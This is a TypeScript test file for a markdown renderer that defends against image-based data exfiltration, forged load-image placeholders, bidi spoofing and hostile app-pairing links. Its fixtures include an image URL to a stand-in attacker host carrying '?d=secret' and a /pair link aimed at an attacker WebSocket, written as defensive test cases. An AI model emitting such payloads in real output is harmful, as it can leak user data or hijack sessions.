// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { IncrementalMarkdown } from '../../src/lib/markdown/incremental';
import { imageHost } from '../../src/lib/markdown/remote-images';
import { renderMarkdown } from '../../src/lib/markdown/render';

function dom(html: string): HTMLElement {
	const div = document.createElement('div');
	div.innerHTML = html;
	return div;
}

describe('remote images wait for the reader', () => {
	const SECRET = '![chart](https://evil.example:8443/x.png?d=secret)';

	it('no element of the rendered HTML fetches the URL', () => {
		const root = dom(
			renderMarkdown(`Here:\n\n${SECRET}\n\n<img src="https://evil.example/raw.png">`)
		);
		expect(root.querySelectorAll('img, [src], [srcset]')).toHaveLength(0);
		const spans = root.querySelectorAll('span.remote-image');
		expect(spans).toHaveLength(2);
		expect(spans[0]!.getAttribute('data-remote-src')).toBe(
			'https://evil.example:8443/x.png?d=secret'
		);
	});

	it('the placeholder names the host, shows the alt text, and offers once or always', () => {
		const span = dom(renderMarkdown(SECRET)).querySelector('span.remote-image')!;
		const buttons = [...span.querySelectorAll('button')];
		expect(buttons.map((b) => [b.type, b.dataset.remoteAction, b.textContent])).toEqual([
			['button', 'once', 'Load image from evil.example:8443'],
			['button', 'always', 'Always load images from evil.example:8443']
		]);
		expect(buttons[0]!.title).toBe('https://evil.example:8443/x.png?d=secret');
		expect(span.querySelector('.remote-image-alt')?.textContent).toBe('chart');
		expect(span.getAttribute('data-alt')).toBe('chart');
	});

	it('message HTML cannot fake a placeholder or smuggle a data-remote-src', () => {
		const html = renderMarkdown(
			'<span class="remote-image" data-remote-src="https://x.example/a.png"><button data-remote-action="always">Load image from trusted.example</button></span>'
		);
		const root = dom(html);
		expect(root.querySelector('span, button, [data-remote-src]')).toBeNull();
	});

	it('a data: or relative image stays an inert image without any URL', () => {
		const root = dom(renderMarkdown('![a](data:image/png;base64,AAAA) ![b](/pair#url=x)'));
		expect(root.querySelectorAll('[src], [data-remote-src], .remote-image')).toHaveLength(0);
	});

	it('a streamed render ends equal to a one-shot render', () => {
		const text = `Intro\n\n${SECRET}\n\n- item ![i](https://i.example/i.png)\n\n| a |\n|---|\n| ![t](https://t.example/t.png) |\n`;
		const r = new IncrementalMarkdown();
		for (let end = 1; end <= text.length; end++) r.update(text.slice(0, end));
		r.finish(text);
		expect(r.html).toBe(renderMarkdown(text));
		expect(dom(r.html).querySelectorAll('img')).toHaveLength(0);
	});

	it('imageHost: host with port, or empty for a URL that does not parse', () => {
		expect(imageHost('https://a.example:8080/x')).toBe('a.example:8080');
		expect(imageHost('https://xn--80ak6aa92e.com/')).toBe('xn--80ak6aa92e.com');
		expect(imageHost('not a url')).toBe('');
	});
});

describe('links are bidi-isolated', () => {
	it('every link carries dir="auto"', () => {
		const a = dom(renderMarkdown('abc \u202E [click](https://example.com) def')).querySelector(
			'a'
		)!;
		expect(a.getAttribute('dir')).toBe('auto');
	});
});

describe("links to the app's own pairing page are text", () => {
	it('an absolute or autolinked /pair link of this origin is not a link', () => {
		const own = `${location.origin}/pair#url=wss%3A%2F%2Fevil.example%2Fws&token=x`;
		for (const md of [`[open](${own})`, `<${own}>`, own, `<a href="${own}">open</a>`]) {
			const root = dom(renderMarkdown(md));
			expect(root.querySelector('a'), md).toBeNull();
			expect(root.textContent, md).toMatch(/open|pair/);
		}
	});

	it('a /pair link of another site stays a link (it cannot pair this app)', () => {
		const a = dom(renderMarkdown('[x](https://other.example/pair#url=x&token=y)')).querySelector(
			'a'
		);
		expect(a?.getAttribute('href')).toBe('https://other.example/pair#url=x&token=y');
	});

	it('a streamed render ends equal to a one-shot render', () => {
		const text = `See ${location.origin}/pair#url=x&token=y now\n\nand [this](${location.origin}/pair)\n`;
		const r = new IncrementalMarkdown();
		for (let end = 1; end <= text.length; end++) r.update(text.slice(0, end));
		r.finish(text);
		expect(r.html).toBe(renderMarkdown(text));
	});
});
